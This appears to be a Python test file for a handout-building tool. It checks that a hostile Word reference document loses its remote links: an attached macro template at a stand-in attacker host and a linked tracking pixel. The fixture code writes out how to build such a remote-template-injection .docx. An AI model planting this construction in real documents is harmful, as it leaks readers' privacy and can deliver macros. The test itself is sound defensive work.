"""A hostile --docx-reference (issue 19): nothing the handout would load from elsewhere survives.

A reference document whose settings attach a remote template makes Word fetch that
template whenever a patient opens the handout (a privacy leak, and a known way to
deliver macros); a linked picture in its letterhead does the same. The handout keeps
the reference's styles and letterhead, its hyperlinks, and none of those.
"""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import docx
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml import parse_xml

from tests.helpers.cli_run import assert_bounded, run_all

REMOTE = "https://templates.evil.example/macro.dotm"
PICTURE = "https://tracker.evil.example/pixel.png"
SITE = "https://clinic.example/"
A = "http://schemas.openxmlformats.org/drawingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
ATTACHED_TEMPLATE = f"{R}/attachedTemplate"


def hostile_reference(path: Path) -> None:
    """A reference whose settings attach a remote template and whose header links a remote picture."""
    document = docx.Document()
    settings = document.settings.element
    settings_part = document.part.part_related_by(RT.SETTINGS)
    r_id = settings_part.relate_to(REMOTE, ATTACHED_TEMPLATE, is_external=True)
    settings.append(
        parse_xml(f'<w:attachedTemplate xmlns:w="{settings.nsmap["w"]}" xmlns:r="{R}" r:id="{r_id}"/>')
    )
    header = document.sections[0].header
    header.is_linked_to_previous = False  # a header part of its own
    paragraph = header.paragraphs[0]
    paragraph.text = "Harbour Clinic letterhead"
    link_id = header.part.relate_to(SITE, RT.HYPERLINK, is_external=True)
    picture_id = header.part.relate_to(PICTURE, RT.IMAGE, is_external=True)
    paragraph._p.append(
        parse_xml(f'<w:hyperlink xmlns:w="{settings.nsmap["w"]}" xmlns:r="{R}" r:id="{link_id}"/>')
    )
    blip = parse_xml(f'<a:blip xmlns:a="{A}" xmlns:r="{R}" r:link="{picture_id}"/>')
    paragraph._p.append(blip)  # enough for the relationship to be referenced
    document.save(path)


def test_a_reference_loses_what_it_would_load_from_elsewhere(tmp_path: Path):
    hostile_reference(tmp_path / "reference.docx")
    (tmp_path / "faq.md").write_text("---\ntitle: T\n---\n\n## Q?\n\nA.\n", encoding="utf-8")
    command = ["build", "faq.md", "-o", "out", "-j", "1", "-f", "docx", "--docx-reference", "reference.docx"]
    [run] = run_all([command], tmp_path)
    assert_bounded(run)
    assert run.code == 0, run
    with zipfile.ZipFile(tmp_path / "out" / "faq.docx") as package:
        text = {name: package.read(name).decode("utf-8", "replace") for name in package.namelist()}
    everything = "\n".join(text.values())
    assert "evil.example" not in everything
    assert "attachedTemplate" not in text["word/settings.xml"]
    external = re.findall(r'<Relationship [^>]*TargetMode="External"[^>]*>', everything)
    assert external and all(SITE in rel and rel.count("/hyperlink") == 1 for rel in external), external
    header = next(body for name, body in text.items() if re.fullmatch(r"word/header\d*\.xml", name))
    assert "Harbour Clinic letterhead" in header and "r:link=" not in header
